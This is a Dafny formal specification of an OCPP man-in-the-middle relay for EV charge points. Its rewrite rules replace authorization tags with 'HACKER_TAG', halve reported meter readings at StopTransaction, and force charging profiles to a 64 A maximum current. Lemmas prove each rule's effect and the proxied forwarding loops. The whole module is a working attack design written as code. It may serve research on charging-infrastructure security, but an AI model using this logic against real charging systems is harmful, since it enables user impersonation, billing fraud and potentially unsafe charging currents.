/**
 * The interception relay: the rule engine that rewrites a charge point's protocol
 * envelopes on their way to the management server, and the two forwarding
 * directions of a proxied session.
 *
 * JSON text is not modelled: a message arrives as its text together with what
 * `json.loads` made of it (`None` when parsing raised), and a rewritten message
 * leaves as the value `json.dumps` is given.
 */
module MitmAttack {
  import opened Common

  /** A value `json.loads` can produce. Objects are maps: key order is not modelled. */
  datatype Json =
    | JNull
    | JBool(b: bool)
    | JInt(i: int)
    | JFloat(x: real)
    | JString(s: string)
    | JArray(items: seq<Json>)
    | JObject(fields: map<string, Json>)

  /**
   * How the body of `manipulate_message` can fail. The first three are Python
   * exceptions the handler catches; `ShortEnvelope` is the fall-through for an
   * envelope of at most two elements. All four return the original message.
   */
  datatype Failure = TypeError | KeyError | IndexError | AttributeError | ShortEnvelope

  /** What the relay sends on: the original text, or the re-serialised envelope. */
  datatype Forwarded = Verbatim(text: string) | Serialised(value: Json)

  const HackerTag: string := "HACKER_TAG"
  const ForcedMaxCurrent: int := 64
  const EmptyObject: Json := JObject(map[])

  // ---------------------------------------------------------------------------
  // The Python operations the rule engine applies to parsed values

  /** `len(v)`; a TypeError for numbers, booleans and null. */
  function Length(v: Json): (r: Result<nat, Failure>)
    ensures r.Ok? <==> v.JArray? || v.JString? || v.JObject?
  {
    match v
    case JArray(items) => Ok(|items|)
    case JString(s) => Ok(|s|)
    case JObject(fields) => Ok(|fields|)
    case _ => Err(TypeError)
  }

  /** `v[i]` for a non-negative int index. Object keys are strings, so an int key is a KeyError. */
  function Index(v: Json, i: nat): (r: Result<Json, Failure>)
    ensures v.JArray? ==> (r.Ok? <==> i < |v.items|) && (r.Ok? ==> r.value == v.items[i])
    ensures v.JString? ==> (r.Ok? <==> i < |v.s|) && (r.Ok? ==> r.value == JString([v.s[i]]))
    ensures v.JObject? ==> r == Err(KeyError)
  {
    match v
    case JArray(items) => if i < |items| then Ok(items[i]) else Err(IndexError)
    case JString(s) => if i < |s| then Ok(JString([s[i]])) else Err(IndexError)
    case JObject(_) => Err(KeyError)
    case _ => Err(TypeError)
  }

  /** `key` occurs in `s` as a contiguous substring (the empty string occurs in every string). */
  predicate IsSubstring(key: string, s: string)
    ensures key <= s ==> IsSubstring(key, s)
    ensures IsSubstring(key, s) ==> |key| <= |s|
  {
    key <= s || (s != [] && IsSubstring(key, s[1..]))
  }

  /** A key found at any position of `s` is a substring of `s`. */
  lemma {:induction false} SubstringAt(key: string, s: string, i: nat)
    requires i + |key| <= |s| && s[i..i + |key|] == key
    ensures IsSubstring(key, s)
    decreases i
  {
    if i > 0 {
      assert s[1..][i - 1..i - 1 + |key|] == key;
      SubstringAt(key, s[1..], i - 1);
    } else {
      assert key == s[..|key|];
    }
  }

  /** Conversely, a key contained in `s` occurs at a position: the first one, counting from the left. */
  function SubstringIndex(key: string, s: string): (i: nat)
    requires IsSubstring(key, s)
    ensures i + |key| <= |s| && s[i..i + |key|] == key
    ensures forall j :: 0 <= j < i ==> !(key <= s[j..])
  {
    if key <= s then 0
    else
      var k := SubstringIndex(key, s[1..]);
      assert s[1 + k..1 + k + |key|] == s[1..][k..k + |key|];
      assert forall j :: 1 <= j < 1 + k ==> s[j..] == s[1..][j - 1..];
      1 + k
  }

  /** Python's `key in v` for a string `key`: key membership, element membership or substring. */
  function Contains(v: Json, key: string): (r: Result<bool, Failure>)
    ensures r.Ok? <==> v.JObject? || v.JArray? || v.JString?
    ensures v.JObject? ==> r == Ok(key in v.fields)
    ensures v.JArray? ==> r == Ok(JString(key) in v.items)
    ensures v.JString? ==> r == Ok(IsSubstring(key, v.s))
    ensures v.JString? && key <= v.s ==> r == Ok(true)
    ensures v.JString? && |key| > |v.s| ==> r == Ok(false)
  {
    match v
    case JObject(fields) => Ok(key in fields)
    case JArray(items) => Ok(JString(key) in items)
    case JString(s) => Ok(IsSubstring(key, s))
    case _ => Err(TypeError)
  }

  /** `int(x)` on a real: truncation toward zero. */
  function Truncate(x: real): (n: int)
    ensures x >= 0.0 ==> (n as real) <= x < (n as real) + 1.0
    ensures x <= 0.0 ==> (n as real) - 1.0 < x <= (n as real)
    ensures x >= 0.0 ==> n >= 0
    ensures x <= 0.0 ==> n <= 0
  {
    if x >= 0.0 then x.Floor else -((-x).Floor)
  }

  /** `int(n * 0.5)` for an integer `n`: half of `n`, rounded toward zero. */
  function HalfTowardZero(n: int): (h: int)
    ensures n >= 0 ==> h == n / 2
    ensures n < 0 ==> h == -((-n) / 2)
    ensures h + h == n || h + h == n - 1 || h + h == n + 1
    ensures n >= 0 ==> 0 <= h <= n
    ensures n <= 0 ==> n <= h <= 0
  {
    Truncate((n as real) * 0.5)
  }

  /** `int(v * 0.5)`: defined for numbers and booleans; other values raise a TypeError. */
  function HalfOf(v: Json): (r: Option<int>)
    ensures r.Some? <==> v.JInt? || v.JFloat? || v.JBool?
    ensures v.JInt? ==> r == Some(HalfTowardZero(v.i))
  {
    match v
    case JInt(n) => Some(HalfTowardZero(n))
    case JFloat(x) => Some(Truncate(x * 0.5))
    case JBool(_) => Some(0)
    case _ => None
  }

  // ---------------------------------------------------------------------------
  // The rewrite rules, one per recognised action

  /** StartTransaction: overwrite `id_tag` when present. */
  function ReplaceIdTag(payload: Json): (r: Result<Json, Failure>)
    ensures payload.JObject? ==>
      r.Ok? && r.value.JObject? &&
      r.value.fields.Keys == payload.fields.Keys &&
      SameExcept(payload.fields, r.value.fields, "id_tag") &&
      ("id_tag" in payload.fields ==> r.value.fields["id_tag"] == JString(HackerTag))
    ensures !payload.JObject? ==> (r.Ok? <==> Contains(payload, "id_tag") == Ok(false)) && (r.Ok? ==> r.value == payload)
  {
    match Contains(payload, "id_tag")
    case Err(e) => Err(e)
    case Ok(present) =>
      if !present then Ok(payload)
      else if payload.JObject? then Ok(JObject(payload.fields["id_tag" := JString(HackerTag)]))
      else Err(TypeError)
  }

  /** StopTransaction: replace `meter_stop` by half of it, rounded toward zero, when present. */
  function HalveMeterStop(payload: Json): (r: Result<Json, Failure>)
    ensures payload.JObject? ==>
      (r.Ok? <==> "meter_stop" !in payload.fields || HalfOf(payload.fields["meter_stop"]).Some?)
    ensures payload.JObject? && r.Ok? ==>
      r.value.JObject? &&
      r.value.fields.Keys == payload.fields.Keys &&
      SameExcept(payload.fields, r.value.fields, "meter_stop") &&
      ("meter_stop" in payload.fields ==> r.value.fields["meter_stop"] == JInt(HalfOf(payload.fields["meter_stop"]).value))
    ensures !payload.JObject? ==> (r.Ok? <==> Contains(payload, "meter_stop") == Ok(false)) && (r.Ok? ==> r.value == payload)
  {
    match Contains(payload, "meter_stop")
    case Err(e) => Err(e)
    case Ok(present) =>
      if !present then Ok(payload)
      else if payload.JObject? then
        match HalfOf(payload.fields["meter_stop"])
        case None => Err(TypeError)
        case Some(h) => Ok(JObject(payload.fields["meter_stop" := JInt(h)]))
      else Err(TypeError)
  }

  /**
   * RemoteStartTransaction: when `charging_profile` is present, set its `max_current`
   * to 64, inserting the key if absent. The `.get` on a profile that is not an object
   * raises an AttributeError.
   */
  function ForceMaxCurrent(payload: Json): (r: Result<Json, Failure>)
    ensures payload.JObject? ==>
      (r.Ok? <==> "charging_profile" !in payload.fields || payload.fields["charging_profile"].JObject?)
    ensures payload.JObject? && r.Err? ==> r == Err(AttributeError)
    ensures payload.JObject? && r.Ok? ==>
      r.value.JObject? &&
      r.value.fields.Keys == payload.fields.Keys &&
      SameExcept(payload.fields, r.value.fields, "charging_profile") &&
      ("charging_profile" in payload.fields ==>
        var before := payload.fields["charging_profile"].fields;
        var after := r.value.fields["charging_profile"];
        after.JObject? &&
        after.fields.Keys == before.Keys + {"max_current"} &&
        after.fields["max_current"] == JInt(ForcedMaxCurrent) &&
        SameExcept(before, after.fields, "max_current"))
    ensures !payload.JObject? ==> (r.Ok? <==> Contains(payload, "charging_profile") == Ok(false)) && (r.Ok? ==> r.value == payload)
  {
    match Contains(payload, "charging_profile")
    case Err(e) => Err(e)
    case Ok(present) =>
      if !present then Ok(payload)
      else if payload.JObject? then
        match payload.fields["charging_profile"]
        case JObject(profile) =>
          Ok(JObject(payload.fields["charging_profile" := JObject(profile["max_current" := JInt(ForcedMaxCurrent)])]))
        case _ => Err(AttributeError)
      else Err(TypeError)
  }

  /** The rule table, keyed by the action name; any other action leaves the payload as it is. */
  function RewritePayload(action: Json, payload: Json): (r: Result<Json, Failure>)
    ensures action !in {JString("RemoteStartTransaction"), JString("StartTransaction"), JString("StopTransaction")} ==>
      r == Ok(payload)
    ensures r.Ok? && payload.JObject? ==> r.value.JObject? && r.value.fields.Keys == payload.fields.Keys
    ensures r.Ok? && !payload.JObject? ==> r.value == payload
    ensures !(payload.JObject? || payload.JArray? || payload.JString?) ==>
      (r == Err(TypeError) <==> action in {JString("RemoteStartTransaction"), JString("StartTransaction"), JString("StopTransaction")})
  {
    if action == JString("RemoteStartTransaction") then ForceMaxCurrent(payload)
    else if action == JString("StartTransaction") then ReplaceIdTag(payload)
    else if action == JString("StopTransaction") then HalveMeterStop(payload)
    else Ok(payload)
  }

  /**
   * The body of `manipulate_message` after parsing: an envelope of more than two elements
   * becomes `[data[0], data[1], action, payload']`, the payload defaulting to `{}`.
   */
  function Rewrite(data: Json): (r: Result<Json, Failure>)
    ensures r.Ok? ==> (data.JArray? || data.JString?) && r.value.JArray? && |r.value.items| == 4
    ensures !(data.JArray? || data.JString? || data.JObject?) ==> r == Err(TypeError)
    ensures data.JObject? ==> r.Err?
    ensures data.JArray? && |data.items| <= 2 ==> r == Err(ShortEnvelope)
    ensures data.JArray? && |data.items| >= 3 ==>
      var payload := if |data.items| > 3 then data.items[3] else EmptyObject;
      (r.Ok? <==> RewritePayload(data.items[2], payload).Ok?) &&
      (r.Ok? ==> r.value.items[..3] == data.items[..3] && r.value.items[3] == RewritePayload(data.items[2], payload).value)
  {
    match Length(data)
    case Err(e) => Err(e)
    case Ok(n) =>
      if n <= 2 then Err(ShortEnvelope)
      else
        match Index(data, 2)
        case Err(e) => Err(e)
        case Ok(action) =>
          match (if n > 3 then Index(data, 3) else Ok(EmptyObject))
          case Err(e) => Err(e)
          case Ok(payload) =>
            match RewritePayload(action, payload)
            case Err(e) => Err(e)
            case Ok(payload') =>
              match Index(data, 0)
              case Err(e) => Err(e)
              case Ok(typeId) =>
                match Index(data, 1)
                case Err(e) => Err(e)
                case Ok(uniqueId) => Ok(JArray([typeId, uniqueId, action, payload']))
  }

  /** `manipulate_message(message)`, where `parsed` is what `json.loads(message)` returned (`None`: it raised). */
  function ManipulateMessage(message: string, parsed: Option<Json>): (f: Forwarded)
    ensures f.Verbatim? ==> f.text == message
    ensures f.Verbatim? <==> parsed.None? || Rewrite(parsed.value).Err?
    ensures f.Serialised? ==> f.value == Rewrite(parsed.value).value
  {
    match parsed
    case None => Verbatim(message)
    case Some(data) =>
      match Rewrite(data)
      case Err(_) => Verbatim(message)
      case Ok(v) => Serialised(v)
  }

  // ---------------------------------------------------------------------------
  // Properties of the rule engine

  /** `g` agrees with `f` on every key except `key`. */
  ghost predicate SameExcept(f: map<string, Json>, g: map<string, Json>, key: string)
  {
    forall k :: k != key ==> (k in f <==> k in g) && (k in f ==> f[k] == g[k])
  }

  /** Parse failures, non-sequences and envelopes of at most two elements go out as the original text. */
  lemma UnactionableMessagesPassVerbatim(message: string, parsed: Option<Json>)
    requires parsed.None? || parsed.value.JObject? || !(parsed.value.JArray? || parsed.value.JString?)
      || (parsed.value.JArray? && |parsed.value.items| <= 2)
    ensures ManipulateMessage(message, parsed) == Verbatim(message)
  {
  }

  /**
   * The output envelope of a sequence of three or more elements: the first three kept,
   * the payload (or `{}` when missing) rewritten, everything after index 3 dropped.
   */
  lemma EnvelopeShape(items: seq<Json>)
    requires |items| >= 3
    ensures var payload := if |items| > 3 then items[3] else EmptyObject;
      match RewritePayload(items[2], payload)
      case Ok(p) => Rewrite(JArray(items)) == Ok(JArray([items[0], items[1], items[2], p]))
      case Err(e) => Rewrite(JArray(items)) == Err(e)
  {
  }

  /** StartTransaction: `id_tag` becomes "HACKER_TAG" and no other key changes; without `id_tag` nothing changes. */
  lemma StartTransactionRule(fields: map<string, Json>)
    ensures var r := RewritePayload(JString("StartTransaction"), JObject(fields));
      r.Ok? && r.value.JObject? &&
      r.value.fields.Keys == fields.Keys &&
      SameExcept(fields, r.value.fields, "id_tag") &&
      ("id_tag" in fields ==> r.value.fields["id_tag"] == JString(HackerTag)) &&
      ("id_tag" !in fields ==> r.value == JObject(fields))
  {
  }

  /** StopTransaction: an integer `meter_stop` is halved toward zero, no other key changes. */
  lemma StopTransactionRule(fields: map<string, Json>)
    requires "meter_stop" in fields ==> fields["meter_stop"].JInt?
    ensures var r := RewritePayload(JString("StopTransaction"), JObject(fields));
      r.Ok? && r.value.JObject? &&
      r.value.fields.Keys == fields.Keys &&
      SameExcept(fields, r.value.fields, "meter_stop") &&
      ("meter_stop" in fields ==> r.value.fields["meter_stop"] == JInt(HalfTowardZero(fields["meter_stop"].i))) &&
      ("meter_stop" !in fields ==> r.value == JObject(fields))
  {
  }

  /** A `meter_stop` that is not a number (a string, null, a list, an object) makes the whole message go out verbatim. */
  lemma NonNumericMeterStopIsVerbatim(message: string, typeId: Json, uniqueId: Json, fields: map<string, Json>)
    requires "meter_stop" in fields && HalfOf(fields["meter_stop"]).None?
    ensures ManipulateMessage(message, Some(JArray([typeId, uniqueId, JString("StopTransaction"), JObject(fields)]))) == Verbatim(message)
  {
  }

  /**
   * RemoteStartTransaction: with an object `charging_profile`, its `max_current` becomes 64
   * (inserted if absent) and nothing else in the profile or the payload changes.
   */
  lemma RemoteStartTransactionRule(fields: map<string, Json>)
    requires "charging_profile" in fields ==> fields["charging_profile"].JObject?
    ensures var r := RewritePayload(JString("RemoteStartTransaction"), JObject(fields));
      r.Ok? && r.value.JObject? &&
      r.value.fields.Keys == fields.Keys &&
      SameExcept(fields, r.value.fields, "charging_profile") &&
      ("charging_profile" !in fields ==> r.value == JObject(fields)) &&
      ("charging_profile" in fields ==>
        var before := fields["charging_profile"].fields;
        var after := r.value.fields["charging_profile"];
        after.JObject? &&
        after.fields.Keys == before.Keys + {"max_current"} &&
        after.fields["max_current"] == JInt(ForcedMaxCurrent) &&
        SameExcept(before, after.fields, "max_current"))
  {
  }

  /** Any action outside the three leaves the payload exactly as it was. */
  lemma OtherActionsUnchanged(action: Json, payload: Json)
    requires action !in {JString("RemoteStartTransaction"), JString("StartTransaction"), JString("StopTransaction")}
    ensures RewritePayload(action, payload) == Ok(payload)
  {
  }

  /** The examples: USER001 becomes HACKER_TAG, 1500 becomes 750, a Heartbeat envelope keeps its value. */
  lemma RuleExamples(typeId: Json, uniqueId: Json, hb: Json)
    ensures RewritePayload(JString("StartTransaction"), JObject(map["id_tag" := JString("USER001")]))
      == Ok(JObject(map["id_tag" := JString(HackerTag)]))
    ensures RewritePayload(JString("StopTransaction"), JObject(map["meter_stop" := JInt(1500)]))
      == Ok(JObject(map["meter_stop" := JInt(750)]))
    ensures Rewrite(JArray([typeId, uniqueId, JString("Heartbeat"), hb])) == Ok(JArray([typeId, uniqueId, JString("Heartbeat"), hb]))
  {
    var m := map["id_tag" := JString("USER001")];
    assert m["id_tag" := JString(HackerTag)] == map["id_tag" := JString(HackerTag)];
    var s := map["meter_stop" := JInt(1500)];
    assert HalfTowardZero(1500) == 750;
    assert s["meter_stop" := JInt(750)] == map["meter_stop" := JInt(750)];
  }

  /** Rewriting an already rewritten StartTransaction or RemoteStartTransaction envelope changes nothing more. */
  lemma RewriteIdempotent(data: Json)
    requires Rewrite(data).Ok?
    requires data.JArray? && data.items[2] in {JString("StartTransaction"), JString("RemoteStartTransaction")}
    ensures Rewrite(Rewrite(data).value) == Rewrite(data)
  {
    var items := data.items;
    var payload := if |items| > 3 then items[3] else EmptyObject;
    EnvelopeShape(items);
    var p := RewritePayload(items[2], payload).value;
    EnvelopeShape([items[0], items[1], items[2], p]);
    PayloadRuleIdempotent(items[2], payload);
  }

  lemma PayloadRuleIdempotent(action: Json, payload: Json)
    requires action in {JString("StartTransaction"), JString("RemoteStartTransaction")}
    requires RewritePayload(action, payload).Ok?
    ensures var p := RewritePayload(action, payload).value; RewritePayload(action, p) == Ok(p)
  {
    var p := RewritePayload(action, payload).value;
    if payload.JObject? {
      if action == JString("StartTransaction") {
        if "id_tag" in payload.fields {
          assert p.fields["id_tag" := JString(HackerTag)] == p.fields;
        }
      } else {
        if "charging_profile" in payload.fields {
          var profile := p.fields["charging_profile"].fields;
          assert profile["max_current" := JInt(ForcedMaxCurrent)] == profile;
          assert p.fields["charging_profile" := JObject(profile)] == p.fields;
        }
      }
    }
  }

  /**
   * A JSON string of three or more characters is taken for an envelope, one character
   * per element, and goes out re-serialised as an array of one-character strings.
   */
  lemma StringEnvelopeExample(message: string)
    ensures Rewrite(JString("abcd")) == Ok(JArray([JString("a"), JString("b"), JString("c"), JString("d")]))
    ensures Rewrite(JString("abc")) == Ok(JArray([JString("a"), JString("b"), JString("c"), EmptyObject]))
    ensures ManipulateMessage(message, Some(JString("ab"))) == Verbatim(message)
  {
    assert "abcd"[2] == 'c' && "abcd"[3] == 'd' && "abcd"[0] == 'a' && "abcd"[1] == 'b';
    assert "abc"[2] == 'c' && "abc"[0] == 'a' && "abc"[1] == 'b';
  }

  /** StopTransaction is not idempotent: every pass halves the meter value again. */
  lemma StopTransactionNotIdempotent()
    ensures RewritePayload(JString("StopTransaction"), JObject(map["meter_stop" := JInt(1500)]))
      == Ok(JObject(map["meter_stop" := JInt(750)]))
    ensures RewritePayload(JString("StopTransaction"), JObject(map["meter_stop" := JInt(750)]))
      == Ok(JObject(map["meter_stop" := JInt(375)]))
  {
    assert HalfTowardZero(1500) == 750 && HalfTowardZero(750) == 375;
    assert map["meter_stop" := JInt(1500)]["meter_stop" := JInt(750)] == map["meter_stop" := JInt(750)];
    assert map["meter_stop" := JInt(750)]["meter_stop" := JInt(375)] == map["meter_stop" := JInt(375)];
  }

  // ---------------------------------------------------------------------------
  // The proxied session

  const UpstreamBase: string := "ws://localhost:9000"

  /** `server`: the upstream address is the fixed base followed by the client's request path. */
  function UpstreamUri(path: string): (uri: string)
    ensures |uri| == |UpstreamBase| + |path|
    ensures uri[..|UpstreamBase|] == UpstreamBase && uri[|UpstreamBase|..] == path
  {
    UpstreamBase + path
  }

  /** Distinct client paths go to distinct upstream addresses. */
  lemma UpstreamUriInjective(p: string, q: string)
    requires UpstreamUri(p) == UpstreamUri(q)
    ensures p == q
  {
    assert p == UpstreamUri(p)[|UpstreamBase|..];
  }

  /**
   * `forward_to_server`: each message from the client, in arrival order, passes through
   * the rule engine before it is sent upstream. `parse` stands for `json.loads`.
   */
  method ForwardToServer(client: seq<string>, parse: string -> Option<Json>) returns (sent: seq<Forwarded>)
    ensures |sent| == |client|
    ensures forall i :: 0 <= i < |client| ==> sent[i] == ManipulateMessage(client[i], parse(client[i]))
  {
    sent := [];
    var i := 0;
    while i < |client|
      invariant 0 <= i <= |client|
      invariant |sent| == i
      invariant forall j :: 0 <= j < i ==> sent[j] == ManipulateMessage(client[j], parse(client[j]))
    {
      var m := client[i];
      sent := sent + [ManipulateMessage(m, parse(m))];
      i := i + 1;
    }
  }

  /** `forward_to_client`: every message from the server goes to the client unmodified and in order. */
  method ForwardToClient(server: seq<string>) returns (sent: seq<string>)
    ensures sent == server
  {
    sent := [];
    var i := 0;
    while i < |server|
      invariant 0 <= i <= |server|
      invariant sent == server[..i]
    {
      sent := sent + [server[i]];
      i := i + 1;
    }
  }

  /** A session carrying only Heartbeat envelopes of four elements forwards each envelope's value unchanged upstream. */
  lemma HeartbeatSessionPreservesValues(client: seq<string>, parse: string -> Option<Json>, sent: seq<Forwarded>)
    requires |sent| == |client|
    requires forall i :: 0 <= i < |client| ==> sent[i] == ManipulateMessage(client[i], parse(client[i]))
    requires forall i :: 0 <= i < |client| ==>
      parse(client[i]).Some? && parse(client[i]).value.JArray? &&
      |parse(client[i]).value.items| == 4 && parse(client[i]).value.items[2] == JString("Heartbeat")
    ensures forall i :: 0 <= i < |client| ==> sent[i] == Serialised(parse(client[i]).value)
  {
    forall i | 0 <= i < |client|
      ensures sent[i] == Serialised(parse(client[i]).value)
    {
      var items := parse(client[i]).value.items;
      assert items == [items[0], items[1], items[2], items[3]];
      RuleExamples(items[0], items[1], items[3]);
    }
  }
}
